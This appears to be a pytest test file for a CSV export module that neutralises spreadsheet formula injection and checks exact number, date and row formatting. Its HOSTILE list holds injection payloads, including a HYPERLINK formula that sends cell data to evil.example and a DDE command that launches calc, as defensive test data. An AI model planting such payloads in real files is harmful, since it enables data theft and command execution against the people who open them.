"""Files that spreadsheets read: every cell comes back as what it was, and none is run as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rest_framework import serializers

from tenants.listing.csv_files import (
    FORMULA_STARTS,
    ROWS_AT_ONCE,
    CsvRenderer,
    cells_of,
    columns_of,
    csv_answer,
    csv_lines,
)

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1;"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1)",
    "-",
    "+",
    "=",
    "--1",
    "-1-1",
    "+1e5",
    "-1,5",
    "-.",
    "-\u0661",
)


def read_back(rows: list[list[object]], head: tuple[str, ...] = ("a",)) -> list[list[str]]:
    """The rows as a reader of RFC 4180 gets them, without the head."""
    text = "".join(csv_lines(head, rows))
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    assert read_back([[text]]) == [["'" + text]]


@pytest.mark.parametrize("text", ["-1", "+1", "-1.5", "-0.000001", "+12.50", "-1.", "-.5"])
def test_amounts_stay_numbers(text: str) -> None:
    assert read_back([[text]]) == [[text]]


@pytest.mark.parametrize(
    "text", ["a=1", "alice@example.com", "1-2", " ", "'=1", "天河算力", '"', ",", "a\nb", "a,b\r\nc"]
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert read_back([[text]]) == [[text]]


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40))
def test_no_text_is_run_and_none_is_lost(text: str) -> None:
    # A cell that is empty and alone in its row is written in quotes; with a neighbour it is plain.
    [[found, beside]] = read_back([[text, "x"]], ("a", "b"))
    assert found in (text, "'" + text)
    assert beside == "x"
    if found.startswith(FORMULA_STARTS):
        float(found)


@given(st.lists(st.lists(st.text("=+-@,\"'\n\r;|!ab1", max_size=8), min_size=3, max_size=3), max_size=6))
def test_no_cell_moves_into_another_cell_or_row(rows: list[list[str]]) -> None:
    found = read_back([list(row) for row in rows], ("a", "b", "c"))
    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]


@given(st.decimals(allow_nan=False, allow_infinity=False, places=6, min_value=-(10**15), max_value=10**15))
def test_decimals_are_exact_and_without_an_exponent(amount: Decimal) -> None:
    [[found]] = read_back([[amount]])
    assert Decimal(found) == amount
    assert "E" not in found.upper()


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-7, "-7"),
        (Decimal("1E+3"), "1000"),
        (Decimal("-0.10"), "-0.10"),
        (datetime(2026, 3, 1, 12, tzinfo=UTC), "2026-03-01T12:00:00Z"),
        (datetime(2026, 3, 1, 12, tzinfo=timezone(timedelta(hours=8))), "2026-03-01T04:00:00Z"),
        (datetime(2026, 3, 1, 12, 0, 0, 5, tzinfo=UTC), "2026-03-01T12:00:00.000005Z"),
        (date(2026, 3, 1), "2026-03-01"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (["=1", "b"], '["=1", "b"]'),
        ((1, 2), "[1, 2]"),
        ({"键": "值"}, '{"键": "值"}'),
    ],
)
def test_each_kind_of_value_has_one_form(value: object, text: str) -> None:
    assert read_back([[value, "x"]], ("a", "b")) == [[text, "x"]]


def test_lines_are_made_as_they_are_read() -> None:
    made = []

    def rows() -> Any:
        for number in range(ROWS_AT_ONCE + 1):
            made.append(number)
            yield [number]

    lines = csv_lines(("number",), rows())
    assert next(lines) == "number\r\n"
    assert made == []
    assert next(lines) == "".join(f"{number}\r\n" for number in range(ROWS_AT_ONCE))
    assert len(made) == ROWS_AT_ONCE
    assert list(lines) == [f"{ROWS_AT_ONCE}\r\n"]


def test_the_answer_is_a_file_to_save() -> None:
    answer = csv_answer("keys-tenant.csv", ("a",), [["b"]])
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="keys-tenant.csv"'
    assert b"".join(answer.streaming_content) == b"a\r\nb\r\n"  # type: ignore[arg-type]
    assert answer.streaming


class _Money(serializers.Serializer[Any]):
    amount = serializers.CharField()
    currency = serializers.CharField()


class _Row(serializers.Serializer[Any]):
    id = serializers.UUIDField()
    total = _Money()
    tags = serializers.ListField(child=serializers.CharField())


def test_columns_are_the_fields_and_those_of_an_object_inside() -> None:
    assert columns_of(_Row) == ["id", "total.amount", "total.currency", "tags"]


@pytest.mark.parametrize(
    ("row", "cells"),
    [
        ({"id": "1", "total": {"amount": "2", "currency": "EUR"}, "tags": ["a"]}, ["1", "2", "EUR", ["a"]]),
        ({"id": "1", "total": None, "tags": []}, ["1", None, None, []]),
        ({"id": "1", "total": "wrong"}, ["1", None, None, None]),
        ({}, [None, None, None, None]),
    ],
)
def test_cells_follow_the_columns_whatever_a_row_lacks(row: dict[str, object], cells: list[object]) -> None:
    assert cells_of(row, columns_of(_Row)) == cells


def test_what_goes_wrong_is_still_said_in_json() -> None:
    assert json.loads(CsvRenderer().render({"code": "invalid"})) == {"code": "invalid"}
    assert (CsvRenderer.media_type, CsvRenderer.format) == ("text/csv", "csv")
